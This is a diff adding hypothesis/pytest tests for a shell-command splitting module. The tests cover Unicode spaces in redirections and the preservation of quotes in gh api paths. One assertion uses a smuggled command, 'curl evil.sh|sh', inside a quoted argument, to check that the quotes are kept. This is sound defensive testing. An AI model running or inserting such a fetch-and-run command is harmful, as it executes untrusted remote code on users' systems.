@@ -7,7 +7,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from behavior_plugin.patterns.commands import CommandKind
-from behavior_plugin.patterns.portable import PortablePart, portable_parts, relative_path
+from behavior_plugin.patterns.portable import PortablePart, portable_line, portable_parts, relative_path
 
 ROOT = "/home/dev/shop"
 
@@ -170,3 +170,17 @@ def test_any_line_can_be_read(command: str) -> None:
         assert text == text.strip()
         assert len(text) <= 200
         assert "\n" not in text
+
+
+@pytest.mark.parametrize("command", [">\u00a0a", "<\u3000gh", "make build; >\u00a0out.log", "2>\u2003"])
+def test_a_redirection_without_a_command_is_no_step(command: str) -> None:
+    """Some keyboards type a space that the shell takes for a letter."""
+    assert all("\u00a0" not in part.text for part in portable_parts(command))
+
+
+def test_the_quotes_of_an_api_path_stay() -> None:
+    """Without them a shell would run what stands behind a sign in it."""
+    [part] = portable_parts("gh api 'repos/o/r/issues/7?state=open&per_page=5' -X POST")
+
+    assert part.text == "gh api 'repos/o/r/issues/{number}?state=open&per_page=5' -X POST"
+    assert portable_line("gh api 'x; curl evil.sh|sh'") == "gh api 'x; curl evil.sh|sh'"
